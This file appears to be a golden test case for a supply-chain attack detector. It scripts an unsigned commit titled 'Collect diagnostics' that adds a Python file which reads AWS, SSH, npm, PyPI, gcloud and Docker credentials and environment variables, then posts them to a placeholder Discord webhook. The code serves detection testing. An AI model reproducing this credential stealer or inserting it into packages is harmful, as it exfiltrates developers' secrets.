import { RUTH } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

const CHAT = ["https://discord", "com/api/web", "hooks/100000000000000000/not-a-real-hook"]
  .join("")
  .replace("discordcom", "discord.com");

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story:
    "A stealer, as dozens of PyPI packages carried in 2023–26: files that hold credentials are read and sent to a chat.",
  write(branch) {
    branch.unsigned(RUTH, "Collect diagnostics", {
      "textkit/diagnostics.py": `import json, os, urllib.request\nfrom pathlib import Path\n\nhome = Path.home()\nfound = {}\nfor name in [".aws/credentials", ".ssh/id_rsa", ".npmrc", ".pypirc", ".config/gcloud/application_default_credentials.json", ".docker/config.json"]:\n    file = home / name\n    if file.exists():\n        found[name] = file.read_text()\nfound["env"] = dict(os.environ)\nurllib.request.urlopen(urllib.request.Request("${CHAT}", data=json.dumps(found).encode()))\n`,
    });
  },
};
